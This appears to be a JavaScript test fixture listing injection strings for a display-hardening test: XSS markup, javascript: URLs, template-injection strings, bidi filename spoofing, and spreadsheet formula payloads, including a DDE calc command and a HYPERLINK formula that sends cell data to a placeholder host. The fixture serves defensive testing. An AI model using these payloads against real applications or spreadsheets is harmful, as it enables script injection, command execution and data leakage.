// Hostile text for the hardening test: markup, script, attribute breakers,
// URL schemes, bidi overrides and spreadsheet formulas. Each one is a unit
// name, a group name, a node name or a file name in the test; none may run,
// and each must be shown as the literal text.

export const PAYLOADS = [
  '<img src=x onerror="window.__pwned=1">',
  '<script>window.__pwned=2</script>',
  '"><svg onload="window.__pwned=3">',
  "'><iframe src=\"javascript:window.__pwned=4\">",
  'javascript:window.__pwned=5',
  '</textarea><img src=x onerror=window.__pwned=6>',
  '</title></style></script><script>window.__pwned=7</script>',
  '<a href="javascript:window.__pwned=8">link</a>',
  '" onmouseover="window.__pwned=9" x="',
  "' autofocus onfocus='window.__pwned=10' '",
  '<svg><script>window.__pwned=11</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=12>',
  '<details open ontoggle="window.__pwned=13">',
  '<object data="data:text/html,<script>parent.__pwned=14</script>">',
  '<style>body{display:none}</style>',
  '&lt;b&gt;entity &amp; &#60;i&#62;',
  '${window.__pwned=15}{{constructor.constructor("window.__pwned=16")()}}',
  'RTL \u202Egnp.exe\u202C override',
  'zero\u200Bwidth\u2066isolate',
  '=HYPERLINK("http://example.invalid/?a="&A1,"click")',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '+1+1',
  '-2+3',
  '\t=1+1 (tab)',
];

/** `s` as one CSV field (always quoted). */
export const field = (s) => `"${String(s).replace(/"/g, '""')}"`;
